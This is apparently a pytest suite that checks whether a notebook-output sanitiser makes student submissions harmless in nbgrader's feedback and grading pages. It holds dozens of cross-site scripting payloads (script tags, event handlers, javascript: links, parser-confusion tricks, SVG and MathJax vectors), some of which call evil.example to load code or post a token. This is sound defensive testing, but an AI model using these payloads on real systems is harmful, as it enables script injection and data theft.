"""What a submission shows is harmless to whoever reads it, and honest outputs are still seen."""

from __future__ import annotations

import base64
import io
import json
import random
import re
import time
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import nbformat
import pytest
import torch
from matplotlib import pyplot
from nbconvert.exporters import HTMLExporter
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output, new_raw_cell
from nbgrader.converters import GenerateFeedback
from nbgrader.coursedir import CourseDirectory
from nbgrader.server_extensions.formgrader import handlers
from traitlets.config import Config

from torchmarks import Marks, notebooks
from torchmarks.figures import show
from torchmarks.isolation.markdown import harmless_anywhere, html_of_markdown
from torchmarks.isolation.markup import readable, safe_html
from torchmarks.isolation.outputs import MALFORMED, TRUNCATED, safe_outputs
from torchmarks.isolation.pages import HELD_BACK, SafePage, SafeText

PAGES = {
    "filters": {
        "markdown2html": "torchmarks.isolation.pages.safe_markdown",
        "strip_files_prefix": "torchmarks.isolation.pages.unchanged",
    },
    "preprocessors": [
        "torchmarks.isolation.pages.SafePage",
        "torchmarks.isolation.pages.SafeText",
    ],
}

PNG = base64.b64encode(
    bytes.fromhex(
        "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
        "1f15c4890000000d49444154789c6360606060000000050001a5f64540"
        "0000000049454e44ae426082"
    )
).decode()
GIF = base64.b64encode(b"GIF89a" + bytes(20)).decode()
JPEG = base64.b64encode(b"\xff\xd8\xff\xe0" + bytes(20)).decode()

#: What is tried; `hit()` stands for the harm, and evil.example for who would learn of it.
HOSTILE = {
    "a script": "<script>hit()</script>",
    "a script from elsewhere": "<script src=https://evil.example/x.js></script>",
    "a broken script": "<scr<script>ipt>hit()</scr</script>ipt>",
    "capitals": "<ScRiPt>hit()</sCrIpT><IMG SRC=x OnErRoR=hit()>",
    "an error of a picture": '<img src=x onerror="hit()">',
    "an attribute without space": '<img/src=x/onerror="hit()">',
    "a handler with an entity": "<img src=x on&#101;rror=hit()>",
    "an event of a block": "<details open ontoggle=hit()>x</details>",
    "a focus": '<p tabindex=1 autofocus onfocus="hit()">x</p>',
    "a script link": '<a href="javascript:hit()">x</a>',
    "a script link in entities": '<a href="&#106;avascript&colon;hit()">x</a>',
    "a script link with a tab": '<a href="java\tscript:hit()">x</a>',
    "a script link below files": '<a href="files/javascript:hit()">x</a>',
    "a picture below files": '<img src="files//evil.example/x.png">',
    "a page as data": '<a href="data:text/html,<script>hit()</script>">x</a>',
    "a picture that is a page": '<img src="data:text/html;base64,PHNjcmlwdD4=">',
    "a picture that is a drawing": '<img src="data:image/svg+xml,<svg onload=hit()>">',
    "a drawing": "<svg onload=hit()><script>hit()</script></svg>",
    "an animated link": '<svg><a><animate attributeName=href values="javascript:hit()"/>x</a></svg>',
    "mathematics with a link": '<math href="javascript:hit()"><mtext>x</mtext></math>',
    "a parser's mistake": "<math><mtext><table><mglyph><style><img src=x onerror=hit()>",
    "another": "<svg><p><style><a title='</style><img src=x onerror=hit()>'>",
    "a third": "<noscript><p title='</noscript><img src=x onerror=hit()>'>",
    "a fourth": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=hit()>",
    "a comment": "<!--><img src=x onerror=hit()>--><![CDATA[<img src=x onerror=hit()>]]>",
    "a frame": "<iframe srcdoc='<script>parent.hit()</script>'></iframe>",
    "a frame from elsewhere": "<iframe src=https://evil.example></iframe>",
    "an object": "<object data='data:text/html,<script>hit()</script>'></object><embed src=x.swf>",
    "a form": "<form action=https://evil.example><input name=token><button>Go</button></form>",
    "a refresh": "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "a base": "<base href=https://evil.example>",
    "a style sheet": "<style>nav { background: url(https://evil.example) }</style>",
    "a linked style sheet": "<link rel=stylesheet href=https://evil.example/x.css>",
    "a picture that tells": "<img src=https://evil.example/seen.png>",
    "a picture of many": '<img src=x.png srcset="https://evil.example/x.png 2x">',
    "a picture that asks": '<img src="/formgrader?path=submitted/mallory">',
    "a picture that climbs": '<img src="../../api/x.png"><img src="%2e%2e/api/x.png">',
    "a background": '<table background="https://evil.example/x.png"><tr><td>x</table>',
    "a background by style": '<p style="background: url(https://evil.example/x.png)">x</p>',
    "an escaped background": r'<p style="background: u\72l(https://evil.example/x.png)">x</p>',
    "a set of pictures": "<p style='background: image-set(\"https://evil.example/x.png\" 1x)'>x</p>",
    "a video": "<video src=https://evil.example poster=https://evil.example/x.png></video>",
    "an overlay": '<div style="position: fixed; top: 0; z-index: 99">full marks</div>',
    "an overlay in entities": '<div style="color: red&#59; position:fixed">x</div>',
    "an overlay in a string": "<b style=\"font-family:'a&amp;quot;;position:fixed;x:&amp;quot;b'\">x</b>",
    "a move": '<div style="margin-top: -400px; transform: translate(9px)">x</div>',
    "a class of the page": '<div class="navbar-fixed-top nbgrader_cell">x</div>',
    "a field of the page": '<input class="score" id="why" value="5"><b id="why" name="why">x</b>',
    "a gadget": '<b data-toggle="tooltip" data-html="true" title="<img src=x onerror=hit()>">x</b>',
    "a formula with a link": r"$\href{javascript:hit()}{x}$",
    "a formula in two parts": r"$\hr<wbr>ef{javascript:hit()}{x} \hr<!-- -->ef{y}{x}$",
    "a formula in entities": "$&#92;href{javascript:hit()}{x}$",
    "a formula after a line break": r"$x \\\href{javascript:hit()}{x} \style{position:fixed}{x}$",
    "a formula that requires": r"$\require{html} \cssId{why}{x} \data{a=b}{x}$",
}
#: Only Markdown makes something of these.
HOSTILE_MARKDOWN = {
    "a script link": "[x](javascript:hit())",
    "a script link below files": "[x](files/javascript:hit())",
    "a picture that tells": "![x](https://evil.example/seen.png)",
    "a picture by reference": "![x][y]\n\n[y]: https://evil.example/seen.png",
    "a picture that asks": "![x](/formgrader?path=submitted/mallory)",
    "a diagram": '```mermaid\n</pre><img src=x onerror="hit()">\n```',
    "a heading": "# why",
    "an attachment": "![x](attachment:x.png)",
}


class Elements(HTMLParser):
    """The elements of a page, and what is in its scripts and styles."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str]]] = []
        self.code = ""
        self.text = ""
        self._in: list[str] = []
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Keep the element."""
        self.tags.append((tag, {name: value or "" for name, value in attrs}))
        self._in.append(tag)

    def handle_endtag(self, tag: str) -> None:
        """Leave the element, and those in it that were left open."""
        while self._in and self._in.pop() != tag:
            pass

    def handle_data(self, data: str) -> None:
        """Keep code apart from text."""
        if self._in and self._in[-1] in ("script", "style"):
            self.code += data
        elif not {"pre", "code"} & set(self._in):  # MathJax leaves these alone
            self.text += data


def words(text: str) -> list[str]:
    return text.split()


SHOWN = words("""
    abbr b blockquote br caption code col colgroup dd del details div dl dt em h1 h2 h3 h4 h5 h6 hr
    i img li ol p pre section small span strong sub summary sup table tbody td tfoot th thead tr u
    ul
""")
PLAIN = set(words("alt align border class colspan open rowspan scope src start style title width"))


def assert_inert(html: str) -> None:
    page = Elements(html)
    for tag, attributes in page.tags:
        assert tag in SHOWN, html
        assert set(attributes) <= PLAIN, html
        source = attributes.get("src", "data:image/png;base64,")
        assert re.match(r"data:image/(png|jpeg|gif);base64,|[\w./ -]+\.(png|gif|jpe?g)$", source)
        assert not re.search(r"^/|//|\.\.", source[:30]), html
        assert not re.search(r"url|image|fixed|z-index|transform|-\d", attributes.get("style", ""))
        assert re.fullmatch(
            r"|dataframe|highlight|language-\w+|\w\w?", attributes.get("class", "")
        ), html
    assert not re.search(r"\\(href|style|require|cssId|data)\b", page.text), html


def shown(outputs: list[Any]) -> str:
    """All markup of the outputs, once nbformat has found them valid."""
    nbformat.validate(new_notebook(cells=[new_code_cell(outputs=outputs)]))
    assert {o.output_type for o in outputs} <= {"stream", "display_data", "execute_result", "error"}
    return "".join(o.get("data", {}).get("text/html", "") for o in outputs)


def display(**data: Any) -> dict[str, Any]:
    kinds = {kind.replace("_", "/", 1): value for kind, value in data.items()}
    return {"output_type": "display_data", "data": kinds, "metadata": {}}


@pytest.mark.parametrize("html", HOSTILE.values(), ids=HOSTILE)
def test_hostile_html_comes_out_inert(html):
    around = f"<p>before</p>{html}<p>after</p>"
    for outputs in (
        safe_outputs([display(text_html=around)]),
        safe_outputs([display(text_markdown=f"before\n\n{html}\n\nafter")]),
        safe_outputs([display(text_markdown=f"before {html} after")]),
    ):
        assert_inert(shown(outputs))
        assert "before" in shown(outputs)


@pytest.mark.parametrize("source", HOSTILE_MARKDOWN.values(), ids=HOSTILE_MARKDOWN)
def test_hostile_markdown_comes_out_inert(source):
    outputs = safe_outputs([display(text_markdown=f"before\n\n{source}\n\nafter")])
    assert_inert(shown(outputs))
    assert "before" in shown(outputs)
    assert "text/markdown" not in outputs[0].data


@pytest.mark.parametrize(
    "kind",
    [
        "application/javascript",
        "text/javascript",
        "application/vnd.jupyter.widget-view+json",
        "application/vnd.plotly.v1+json",
        "application/vnd.torchmarks.report+json",
        "application/geo+json",
        "application/pdf",
        "text/vnd.mermaid",
        "application/x-<script>",
    ],
)
def test_kinds_that_run_or_load_are_left_out(kind):
    (alone,) = safe_outputs([display(**{kind: "hit()"})])
    assert alone.output_type == "stream"
    assert "left out" in alone.text
    assert "<" not in alone.text
    (beside,) = safe_outputs([display(**{kind: "hit()", "text/plain": "5"})])
    assert beside.data == {"text/plain": "5"}


@pytest.mark.parametrize(
    ("kind", "data"),
    [
        ("image/png", PNG[:-4] + "<p>!"),
        ("image/png", 'x" onerror="hit()'),
        ("image/png", GIF),
        ("image/png", base64.b64encode(b"<html><script>").decode()),
        ("image/jpeg", PNG),
        ("image/gif", ""),
        ("image/svg+xml", "<svg xmlns='http://www.w3.org/2000/svg'><path></svg>"),
        ("image/svg+xml", "<html><script>hit()</script></html>"),
        (
            "image/svg+xml",
            '<!DOCTYPE svg [<!ENTITY a "b">]><svg xmlns="http://www.w3.org/2000/svg">&a;</svg>',
        ),
        ("image/svg+xml", "<svg xmlns='http://www.w3.org/2000/svg'>" + "<g>" * 5000),
    ],
)
def test_a_picture_has_to_be_one(kind, data):
    (output,) = safe_outputs([display(**{kind: data})])
    assert output.output_type == "stream"


def test_sizes_of_pictures_are_numbers():
    sizes = {"width": "1 onerror=hit()", "height": 40, "filenames": "x", "isolated": True}
    given = display(image_png=PNG) | {"metadata": {"image/png": sizes, "isolated": True}}
    assert safe_outputs([given])[0].metadata == {"image/png": {"height": 40}}


def test_a_drawing_draws_and_does_nothing_else():
    (output,) = safe_outputs(
        [
            display(
                **{
                    "image/svg+xml": """<?xml version="1.0"?>
            <!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/x.dtd">
            <svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"
                 onload="hit()" viewBox="0 0 9 9">
              <script>hit()</script><style>@import "https://evil.example";</style>
              <defs><path id="mark" d="M 0 0"/><g id="twice"><use href="#mark"/></g></defs>
              <a href="javascript:hit()"><path d="M 1 1"/></a>
              <foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml"/></foreignObject>
              <image href="https://evil.example/x.png"/>
              <path d="M 2 2" style="stroke: #1f77b4; fill: url(https://evil.example)"/>
              <use xlink:href="#mark" x="3"/><animate attributeName="href" to="javascript:hit()"/>
              <text x="1">axis</text>
            </svg>"""
                }
            )
        ]
    )
    page = Elements(output.data["image/svg+xml"])
    assert [tag for tag, _ in page.tags if tag not in ("svg", "defs", "g", "text")] == [
        "path",
        "use",
        "image",
        "path",
        "use",
    ]
    attributes = [a for _, all_of_it in page.tags for a in all_of_it.items()]
    assert ("stroke", "#1f77b4") in attributes
    assert [value for name, value in attributes if "href" in name] == ["#mark"]
    assert not any(re.search(r"^on|hit|evil", f"{name} {value}") for name, value in attributes)
    assert page.text.split() == ["axis"]


def figure(kind: str) -> bytes:
    drawing, axes = pyplot.subplots(figsize=(2, 1))
    axes.plot([1, 3, 2], "o-")
    axes.set_title("loss $\\sigma^2$")
    buffer = io.BytesIO()
    drawing.savefig(buffer, format=kind)
    pyplot.close(drawing)
    return buffer.getvalue()


def test_figures_survive(monkeypatch):
    png = base64.b64encode(figure("png")).decode()
    wrapped = "\n".join(re.findall(".{1,76}", png)) + "\n"
    (output,) = safe_outputs([display(image_png=wrapped, text_plain="<Figure>")])
    assert output.data == {"image/png": png, "text/plain": "<Figure>"}
    for kind, data in (("image/jpeg", JPEG), ("image/gif", GIF)):
        assert safe_outputs([display(**{kind: data})])[0].data == {kind: data}

    svg = figure("svg").decode()
    (output,) = safe_outputs([display(**{"image/svg+xml": svg})])
    before, after = Elements(svg), Elements(output.data["image/svg+xml"])
    for tag in ("path", "use", "g"):
        count = [sum(name == tag for name, _ in page.tags) for page in (before, after)]
        assert count[0] == count[1] > 2

    published: list[Any] = []
    monkeypatch.setattr("IPython.display.display", lambda data, raw: published.append(data))
    drawing, axes = pyplot.subplots(figsize=(2, 1))
    axes.plot([1, 2])
    show(drawing, 'a "rising" line < 3')
    (output,) = safe_outputs([display(**published[0])])
    ((tag, attributes),) = Elements(output.data["text/html"]).tags
    ((_, expected),) = Elements(published[0]["text/html"]).tags
    assert (tag, attributes) == ("img", expected)


def test_tables_markdown_mathematics_and_code_survive():
    frame = (
        '<div><style scoped>.dataframe tbody tr th { top: 0 }</style><table border="1" '
        'class="dataframe"><thead><tr style="text-align: right;"><th></th><th>loss</th></tr></thead>'
        "<tbody><tr><th>0</th><td>0.25 &lt; 1</td></tr></tbody></table><p>1 rows × 1 columns</p></div>"
    )
    page = Elements(shown(safe_outputs([display(text_html=frame)])))
    assert [tag for tag, _ in page.tags] == (words("div table thead tr th th tbody tr th td p"))
    assert page.tags[1][1] == {"border": "1", "class": "dataframe"}
    assert page.tags[3][1] == {"style": "text-align: right"}
    assert page.text == "loss00.25 < 11 rows × 1 columns"

    source = (
        "## Why\n\nIf $a<b$ & $\\\\|x\\\\|$, then *so* — `x < y`:\n\n"
        "$$\\begin{aligned}a &= b \\\\ c &< d\\end{aligned}$$\n\n- [x] done\n- [ ] open\n\n"
        "| a | b |\n|---|---|\n| 1 | 2 |\n\n> quoted\n\n```python\ndef f(x): return r'\\href'\n```\n\n"
        "See [the paper](https://example.org/a?b=1&c=2) and <https://example.org>."
    )
    page = Elements(shown(safe_outputs([display(text_markdown=source)])))
    tags = [tag for tag, _ in page.tags]
    assert {"h2", "em", "code", "ul", "table", "th", "blockquote", "pre", "span"} <= set(tags)
    assert "$a<b$ & $" in page.text
    assert "$$\\begin{aligned}a &= b \\\\ c &< d\\end{aligned}$$" in page.text
    assert "☑ done" in page.text
    assert "☐ open" in page.text
    assert "the paper (https://example.org/a?b=1&c=2) and https://example.org." in page.text
    assert "\\href" in html_of_markdown(source)  # in code, it is code
    (output,) = safe_outputs([display(text_latex="$$\\frac{a}{b} < 1$$")])
    assert output.data == {"text/latex": "$$\\frac{a}{b} < 1$$"}
    (output,) = safe_outputs([display(text_latex=r"$\href{javascript:hit()}{x}$")])
    assert output.data == {"text/latex": r"$\text{href}{javascript:hit()}{x}$"}


def test_a_report_of_marks_survives():
    marks = Marks(torch.sqrt, points=2)
    marks.check("of nine", torch.tensor(9.0), expect=3.0)
    marks.check("of four", torch.tensor(4.0), expect=7.0)
    html = marks._repr_mimebundle_()["text/html"]
    before, after = Elements(html), Elements(safe_html(html) or "")
    assert before.text == after.text
    # A parser puts the rows of each table into a body.
    styles = [
        [
            (tag, re.sub(r"\s*([;:,])\s*", r"\1", a.get("style", "")))
            for tag, a in page.tags
            if tag != "tbody"
        ]
        for page in (before, after)
    ]
    assert styles[0] == styles[1]
    assert any("position:absolute" in style for _, style in styles[1])  # for screen readers alone


def test_control_characters_go_and_colours_stay():
    raw = "\x1b[1;31mred\x1b[0m\x00 \x1b[2J\x1b]8;;https://evil.example\x1b\\x\x07 \x9b5n\ud800\ttab\r\n"
    outputs = safe_outputs(
        [
            {"output_type": "stream", "name": "stdout", "text": raw},
            {"output_type": "error", "ename": "E\x00", "evalue": raw, "traceback": [raw, 3]},
            display(text_plain=raw),
        ]
    )
    clean = "\x1b[1;31mred\x1b[0m x 5n\ufffd\ttab\r\n"
    assert outputs[0].text == clean
    assert (outputs[1].ename, outputs[1].evalue, outputs[1].traceback) == ("E", clean, [clean])
    assert outputs[2].data == {"text/plain": clean}
    assert readable("\x1b[31mred\x1b") == "red"
    flood = "\x1b[31mx" * 100_000  # nbconvert would need minutes for it
    assert readable(flood, colours=True) == "x" * 100_000


def test_neighbouring_streams_become_one():
    raw = [
        {"output_type": "stream", "name": name, "text": text}
        for name, text in [
            ("stdout", "a\x1b["),
            ("stdout", ["3", "1mb"]),
            ("stderr", "c"),
            ("stdout", ""),
            ("stdout", "d"),
            ("stdout", "e"),
        ]
    ]
    assert [(o.name, o.text) for o in safe_outputs(raw)] == [
        ("stdout", "a\x1b[31mb"),
        ("stderr", "c"),
        ("stdout", "de"),
    ]


def test_order_and_counts_are_kept():
    outputs = safe_outputs(
        [
            display(text_plain="1"),
            {"output_type": "stream", "name": "stdout", "text": "2"},
            {**display(text_plain="3"), "output_type": "execute_result", "execution_count": 7},
            {**display(text_plain="4"), "output_type": "execute_result", "execution_count": "<b>"},
        ]
    )
    assert [o.get("text") or o.data["text/plain"] for o in outputs] == list("1234")
    assert [o.get("execution_count") for o in outputs] == [None, None, 7, None]
    shown(outputs)


@pytest.mark.parametrize(
    "item",
    [
        None,
        3,
        "text",
        [],
        {},
        {"output_type": ["stream"]},
        {"output_type": "stream", "name": "stdin", "text": "x"},
        {"output_type": "stream", "name": [], "text": "x"},
        {"output_type": "stream", "name": "stdout", "text": ["x", 3]},
        {"output_type": "error", "ename": 3},
        {"output_type": "error", "ename": "E", "evalue": "", "traceback": {"a": 1}},
        {"output_type": "display_data", "data": ["text/plain"]},
        {"output_type": "update_display_data", "data": {"text/plain": "x"}},
        {"output_type": "input_request", "prompt": "password"},
    ],
)
def test_a_malformed_item_is_named_in_its_place(item):
    before, after = display(text_plain="before"), display(text_plain="after")
    outputs = safe_outputs([before, item, after])
    assert [o.output_type for o in outputs] == ["display_data", "stream", "display_data"]
    assert outputs[1].text == MALFORMED + "\n"


def test_what_is_no_list_is_malformed():
    for raw in (None, "x", 3, {"output_type": "stream"}):
        assert [o.text for o in safe_outputs(raw)] == [MALFORMED + "\n"]
    assert safe_outputs([]) == []


def some_json(random: random.Random, depth: int = 0) -> Any:
    """A random JSON value that is often nearly an output."""
    scraps = [*HOSTILE.values(), "", "stdout", "\ud800", "\x1b[31", PNG, "<b>", "$x$", "a" * 3000]
    keys = words("output_type name text data metadata ename evalue traceback execution_count")
    kinds = ["text/html", "text/markdown", "text/plain", "image/png", "image/svg+xml", "text/latex"]
    types = ["stream", "display_data", "execute_result", "error", "", None]
    choice = random.randrange(9 if depth < 4 else 5)
    if choice < 5:
        return random.choice([*scraps, None, True, -1, 2**70, 1e308, 0])
    if choice == 5:
        return [some_json(random, depth + 1) for _ in range(random.randrange(4))]
    if choice == 6:
        return {random.choice([*keys, *kinds, "\ud800"]): some_json(random, depth + 1)}
    item = {key: some_json(random, depth + 2) for key in random.sample(keys, 6)}
    item["output_type"] = random.choice(types)
    if random.random() < 0.7:
        item["data"] = {kind: some_json(random, 4) for kind in random.sample(kinds, 2)}
    return item


def test_no_json_raises_and_all_that_comes_out_is_valid():
    seeded = random.Random(3)
    kinds = set()
    for _ in range(400):
        raw = [some_json(seeded) for _ in range(seeded.randrange(6))]
        raw = raw if seeded.random() < 0.9 else some_json(seeded)
        json.dumps(raw)
        outputs = safe_outputs(raw, max_bytes=6000, max_outputs=4)
        assert len(outputs) <= 4
        assert_inert(shown(outputs))
        assert len(json.dumps(outputs, ensure_ascii=False).encode()) < 8000
        assert safe_outputs(outputs) == outputs
        kinds |= {o.output_type for o in outputs}
    assert len(kinds) == 4


@pytest.mark.parametrize("count", [2, 5000])
def test_too_much_is_cut_with_a_last_line(count):
    stream = {"output_type": "stream", "name": "stdout", "text": "é" * (10**6 // count)}
    outputs = safe_outputs([stream] * count, max_bytes=1000)
    assert len(outputs) == 1
    assert outputs[0].text.endswith(f"é\n{TRUNCATED}\n")
    assert 900 < len(outputs[0].text.encode()) < 1100


def test_too_many_outputs_are_cut_with_a_last_line():
    outputs = safe_outputs([display(text_plain=str(n)) for n in range(2000)])
    assert len(outputs) == 500
    assert outputs[-2].data == {"text/plain": "498"}
    assert outputs[-1].text == TRUNCATED + "\n"
    late = [display(text_plain="1"), display(text_plain="x" * 3000), display(text_plain="3")]
    assert [o.get("text", "1") for o in safe_outputs(late, max_bytes=2000)] == [
        "1",
        TRUNCATED + "\n",
    ]


@pytest.mark.parametrize(
    "html",
    [
        "<div>" * 50_000,
        "<div " + "a " * 50_000 + ">",
        "<div><table></div></table>" * 20_000,
        "<b><p></b>" * 50_000,
        "&" * 500_000,
        "<p style='" + "(" * 100_000 + "'>x</p>",
    ],
    ids=["nested", "crowded", "misnested", "formatting", "entities", "style"],
)
def test_markup_that_would_take_minutes_is_not_parsed(html):
    began = time.perf_counter()
    (output,) = safe_outputs([display(text_html=html, text_plain="plain")])
    assert time.perf_counter() - began < 10
    assert output.data == {"text/plain": "plain"}


# Pages that nbgrader makes ------------------------------------------------------------------


def hostile_notebook() -> Any:
    cells = []
    for html in [*HOSTILE.values(), *HOSTILE_MARKDOWN.values()]:
        answer = {"grade_id": "why", "grade": True, "solution": True, "points": 3, "score": 1}
        cells += [
            new_markdown_cell(html, metadata={"nbgrader": answer}),
            new_markdown_cell(f"{html} inline", metadata={"tags": ["x navbar-fixed-top"]}),
            new_raw_cell(html, metadata={"raw_mimetype": "text/html"}),
            new_code_cell(html, outputs=[new_output("display_data", {"text/html": html})]),
        ]
    cells[0].attachments = {"x.png": {"text/html": 'x" onerror="hit()'}}
    width = {"image/png": {"width": "1 onerror=hit()"}}
    cells += [
        new_code_cell(outputs=[new_output("display_data", {"application/javascript": "hit()"})]),
        new_code_cell(outputs=[new_output("display_data", {"image/png": PNG}, metadata=width)]),
        new_code_cell("x", metadata={"tags": ["x navbar-fixed-top"]}),
    ]
    language = {"name": "x'><script>hit()</script>"}
    about = {"language_info": language, "title": "<script>hit()</script>"}
    return new_notebook(cells=cells, metadata=about)


def page(template: str, notebook: Any, tmp_path: Path, settings: dict[str, Any]) -> Elements:
    """The notebook as nbgrader's feedback or its formgrader shows it."""
    config = Config({"HTMLExporter": settings})
    if template == "feedback":
        config = GenerateFeedback(
            coursedir=CourseDirectory(root=str(tmp_path)), config=config
        ).config
    else:
        config.HTMLExporter.template_name = template
        config.HTMLExporter.extra_template_basedirs = [handlers.template_path]
    about = {"notebook": "p1", "score": 1, "max_score": 3, "late_penalty": 0}
    resources = {"nbgrader": about, "inlining": {"css": []}, "index": 0, "total": 1}
    html, _ = HTMLExporter(config=config).from_notebook_node(notebook, resources)
    html.encode()
    return Elements(html)


def student_parts(found: Elements, empty: Elements) -> list[str]:
    """What on the page runs, loads or covers, beside what nbgrader itself put there."""
    own = {json.dumps(tag) for tag in empty.tags}
    frames = {"script", "style", "iframe", "object", "embed", "link", "meta", "base", "form", "svg"}
    reports = []
    for tag, attributes in found.tags:
        if json.dumps((tag, attributes)) in own or tag in ("html", "body"):
            continue
        everything = " ".join(
            f"{name}={value}" for name, value in attributes.items() if name not in ("alt", "title")
        )
        if (
            tag in frames
            or re.search(
                r"(^| )on\w+=|javascript:|evil\.example|formgrader\?|data:text", everything
            )
            or re.search(r"navbar-fixed|nbgrader_cell why|position|data-toggle", everything)
            or (attributes.get("id") == "why" and tag != "input")
        ):
            reports.append(f"{tag} {everything}")
    if "hit(" in found.code:
        reports.append("a script")
    return reports


@pytest.mark.filterwarnings("ignore:No lexer found")
@pytest.mark.parametrize("template", ["feedback", "formgrade"])
def test_nothing_of_a_student_runs_in_the_pages_of_nbgrader(template, tmp_path):
    empty = page(template, new_notebook(cells=[new_markdown_cell("x")]), tmp_path, PAGES)
    found = page(template, hostile_notebook(), tmp_path, PAGES)
    assert student_parts(found, empty) == []
    assert not re.search(r"\\(href|style|require|cssId|data)\b", found.text)
    scores = [a for tag, a in found.tags if tag == "input" and a.get("id") == "why"]
    assert len(scores) == (template == "formgrade") * (len(HOSTILE) + len(HOSTILE_MARKDOWN))


@pytest.mark.filterwarnings("ignore:No lexer found")
@pytest.mark.parametrize("template", ["feedback", "formgrade"])
def test_without_these_settings_it_would_run(template, tmp_path):
    notebook = hostile_notebook()
    notebook.cells = [c for c in notebook.cells if "attachment:" not in c.source]
    empty = page(template, new_notebook(cells=[new_markdown_cell("x")]), tmp_path, {})
    assert len(student_parts(page(template, notebook, tmp_path, {}), empty)) > 100


@pytest.mark.parametrize("template", ["feedback", "formgrade"])
def test_honest_work_is_seen_in_the_pages_of_nbgrader(template, tmp_path):
    answer = "Because $a<b$:\n\n- `x < y`\n\n![curve](attachment:c.png) ![map](figures/map.png)"
    cell = new_markdown_cell(answer, attachments={"c.png": {"image/png": PNG}})
    outputs = [
        new_output(
            "display_data", {"text/html": '<table class="dataframe"><tr><td>7</td></tr></table>'}
        ),
        new_output("display_data", {"image/png": PNG}),
        new_output("stream", text="\x1b[31mred\x1b[0m"),
    ]
    notebook = new_notebook(cells=[cell, new_code_cell("f(1)", outputs=outputs)])
    before = json.dumps(notebook)
    found = page(template, notebook, tmp_path, PAGES)
    assert json.dumps(notebook) == before  # the file behind the page stays as it is
    assert "$a<b$" in found.text
    sources = [attributes.get("src") for tag, attributes in found.tags if tag == "img"]
    picture = f"data:image/png;base64,{PNG}"
    assert sources == [picture, "figures/map.png", picture]
    assert ("table", {"class": "dataframe"}) in found.tags
    assert ("span", {"class": "ansi-red-fg"}) in found.tags


def test_a_page_is_made_in_seconds(tmp_path):
    began = time.perf_counter()
    cells = [new_markdown_cell("[" * 45_000), new_markdown_cell("\\\\[" * 15_000)]
    page("feedback", new_notebook(cells=cells), tmp_path, PAGES)
    assert time.perf_counter() - began < 10


def seen(cell: Any) -> Any:
    SafeText().preprocess_cell(cell, {}, 0)
    nbformat.validate(new_notebook(cells=[cell]))
    return cell


@pytest.mark.parametrize(
    "source",
    [s for s in [*HOSTILE.values(), *HOSTILE_MARKDOWN.values()] if re.search(r"hit|evil|path", s)],
)
def test_a_text_that_would_run_or_load_is_kept_as_its_source(source):
    cell = seen(new_markdown_cell(f"My answer.\n\n{source}"))
    assert cell.source.startswith(HELD_BACK)
    assert source in cell.source  # the answer is still there to read
    assert_inert(html_of_markdown(cell.source))
    once = cell.source
    assert seen(cell).source == once


@pytest.mark.parametrize(
    "source",
    [
        "$ {![x](https://evil.example/seen.png)$",  # a formula for one viewer, a picture for another
        "`` ![x](https://evil.example/seen.png)",
        "![x](attachment:missing.png)",
        "[" * 30_000,
        "[page](evil.html)",
        "```\n<script>hit()</script>\n```\n<script>hit()</script>",
    ],
)
def test_a_doubtful_text_is_kept_as_its_source(source):
    cell = seen(new_markdown_cell(source))
    assert cell.source.startswith(HELD_BACK)
    assert source in cell.source
    assert harmless_anywhere(cell.source) or "![" in source or "[" * 9 in source
    assert_inert(html_of_markdown(cell.source))


def test_a_raw_cell_is_shown_as_its_source():
    cell = seen(new_raw_cell("<script>hit()</script>", metadata={"raw_mimetype": "text/html"}))
    assert cell.cell_type == "markdown"
    assert "<script>" in cell.source
    assert_inert(html_of_markdown(cell.source))


def test_honest_texts_and_what_the_instructor_locked_are_left_alone(course):
    for path in sorted((course / "release").glob("*/*.ipynb")):
        for cell in notebooks.read(path).cells:
            source = cell.source
            assert cell.cell_type == "code" or seen(cell).source == source, path
    linked = "See [it](https://example.org), [data](data/x.csv) and <b style='color: red'>this</b>."
    assert seen(new_markdown_cell(linked)).source == linked
    frame = "<iframe src=https://example.org></iframe>"
    locked = {"nbgrader": {"grade_id": "video", "locked": True, "grade": False, "solution": False}}
    assert seen(new_markdown_cell(frame, metadata=locked)).source == frame
    forged = {"nbgrader": {"locked": True}}  # what nbgrader leaves of an id that it does not know
    assert seen(new_markdown_cell(frame, metadata=forged)).source != frame


def test_counts_and_metadata_of_a_page_are_plain():
    notebook = hostile_notebook()
    notebook.cells[-1].execution_count = "<img src=x onerror=hit()>"
    SafePage().preprocess(notebook, {})
    nbformat.validate(notebook)
    assert notebook.metadata == {}
    assert notebook.cells[-1].execution_count is None
    assert {key for cell in notebook.cells for key in cell.metadata} == {"nbgrader"}
